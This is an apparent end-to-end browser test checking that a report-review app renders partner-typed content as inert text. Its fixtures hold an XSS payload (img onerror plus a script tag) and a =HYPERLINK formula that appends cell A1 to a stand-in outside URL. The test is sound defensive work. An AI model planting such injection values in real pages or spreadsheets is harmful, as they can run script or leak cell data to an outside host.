import type { Browser } from 'playwright-core';
import { launchedBrowser, type Look } from '../browser';
import { atPage } from '../journeys/at-a-page';
import { heldIn } from '../journeys/checked-file';
import { button } from '../journeys/desk';
import { lookingOver } from '../journeys/look-over';
import { left, looksAt } from '../journeys/overview';
import { parksReturn } from '../journeys/parks-return';
import { opens, saves, sheetTab, shows, startPage } from '../journeys/without-excel';
import { withMouse } from '../journeys/with-mouse';

const HTML = '<img src=x onerror="window.ran = true"><script>window.ran = true</script>';
const FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"Click")';
const LONG = `${'unbrokenandendless'.repeat(40)} ${'and then some more words '.repeat(60)}`.trim();

const SPOILED = {
  entries: new Map([
    ['visits', { value: '1,7oo', comment: HTML }],
    ['open', { value: 0.97, source: FORMULA }],
    ['place', { value: 'tbc' }],
    ['said', { value: HTML, source: LONG }],
  ]),
  texts: new Map([['Parks 1', `${HTML} ${LONG}`]]),
  signOff: { name: HTML, role: FORMULA, date: 'yesterday' },
};

let browser: Browser;
beforeAll(async () => {
  browser = await launchedBrowser();
});
afterAll(() => browser.close());

test.each<Look>([
  { name: '320', width: 320, height: 640 },
  { name: '1280', width: 1280, height: 800 },
])('runs nothing of what a partner typed, breaks no line at $name pixels, and keeps it as text', (look) =>
  atPage(browser, look, async ({ page }) => {
    const found: string[] = [];
    const see = lookingOver(page, look, ['light'], found);
    const desk = await startPage(page, withMouse(page));
    await opens(desk, await parksReturn(SPOILED), 'Green Trust');
    expect((await left(desk.pane))[0]).not.toBe('To fix 0');
    await looksAt(desk, 'To fix');
    await see('spoiled overview');
    for (const sheet of ['Start here', 'Figures', 'Narrative']) {
      await shows(desk, 'Sheets');
      await desk.person.press(sheetTab(desk, sheet));
      await see(`spoiled ${sheet}`);
    }
    await shows(desk, 'Overview');
    await desk.person.press(button(desk.pane, 'Fill in measure by measure'));
    await desk.person.press(button(desk.pane, 'All questions'));
    await see('all questions');
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    const held = heldIn(await saves(desk));
    expect([held.entries['said'], held.texts['Parks 1'], held.signed]).toEqual([
      HTML,
      `${HTML} ${LONG}`,
      { name: HTML, role: FORMULA },
    ]);
    expect(found).toEqual([]);
  }),
);
